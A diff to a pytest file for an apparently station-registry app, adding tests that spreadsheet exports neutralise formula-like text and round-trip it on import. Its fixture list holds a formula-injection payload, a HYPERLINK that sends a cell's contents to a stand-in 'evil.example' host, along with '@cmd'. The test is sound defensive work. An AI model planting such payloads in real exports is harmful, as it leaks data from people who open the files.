@@ -72,7 +72,7 @@ def test_the_admin_form_refuses_control_characters_and_keeps_what_was_typed(clie
 
 
 @pytest.mark.parametrize("field,value", [("name", "站\x00"), ("address", "北京\x08"),
-                                         ("manager", "张\u2028三\x1f"), ("hours", "24小时\x00")])
+                                         ("manager", "张\x1f三"), ("hours", "24小时\x00")])
 def test_the_api_refuses_control_characters_naming_the_field(client, fresh_db, field, value):
     body = {"name": "接口站", "lon": 116.46, "lat": 39.92, field: value}
     response = client.post("/api/v1/stations", json=body, headers=basic("admin"))
@@ -104,3 +104,56 @@ def test_xlsx_export_of_stored_control_characters_is_a_readable_workbook(fresh_d
     result = app.test_cli_runner().invoke(args=["export", "--format", "xlsx", "-o", str(tmp_path / "a.xlsx")])
     assert result.exit_code == 0, result.output
     assert load_workbook(tmp_path / "a.xlsx").active["B2"].value == "旧\ufffd数据\ufffd站"
+
+
+# --- formulas: defused in every spreadsheet export, undone on import ------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+SUM(1,2)", "-2+3", "@cmd",
+            "'=已经带撇号", "''+两个撇号", "'普通撇号"]
+
+
+def export_bytes(db, fmt, **kw):
+    out = io.BytesIO()
+    export_stations(storage.iter_stations(db, private=True), fmt, out, private=True, **kw)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_like_text_is_defused_on_export_and_round_trips_exactly(fresh_db, tmp_path, fmt):
+    for i, name in enumerate(FORMULAS):
+        make_station(fresh_db, name=name, lon=116.30 + i * 0.01, lat=39.95, host_union=name,
+                     manager_phone="+86 10 6512 3456", address="-", district=None)
+    first = export_bytes(fresh_db, fmt)
+    if fmt == "csv":
+        cells = [c for line in first.decode("utf-8-sig").splitlines()[1:] for c in line.split(",")]
+    else:
+        sheet = load_workbook(io.BytesIO(first)).active
+        cells = [c for row in sheet.iter_rows(min_row=2, values_only=True) for c in row]
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    armed = [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert armed == [], armed
+    assert "'+86 10 6512 3456" in cells
+    # Coordinates are numbers, never defused text.
+    assert all(isinstance(c, float) or not str(c).startswith("'1") for c in cells)
+    if fmt == "csv":
+        assert ",116.3,39.95," in first.decode("utf-8-sig")
+
+    other = storage.connect(tmp_path / "other.db")
+    storage.migrate(other)
+    report = import_file(other, first, f"all.{fmt}")
+    assert report.written == len(FORMULAS), format_report(report)
+    back = {s["id"]: s for s in storage.iter_stations(other, private=True)}
+    for station in storage.iter_stations(fresh_db, private=True):
+        copy = back[station["id"]]
+        assert (copy["name"], copy["host_union"]) == (station["name"], station["name"])
+        assert copy["manager_phone"] == "+86 10 6512 3456" and copy["address"] == "-"
+    assert export_bytes(other, fmt) == export_bytes(other, fmt)
+
+
+def test_a_leading_tab_on_import_does_not_re_arm_a_cell(fresh_db):
+    data = (HEADER + "\"\t=1+2\",北京,116.42,39.92,,\n\"\t'=3+4\",北京,116.45,39.92,,\n").encode()
+    assert import_file(fresh_db, data, "s.csv").written == 2
+    out = export_bytes(fresh_db, "csv").decode("utf-8-sig")
+    names = [line.split(",")[1] for line in out.splitlines()[1:]]
+    assert names == ["'=1+2", "''=3+4"]
+    assert [s["name"] for s in storage.iter_stations(fresh_db)] == ["=1+2", "'=3+4"]
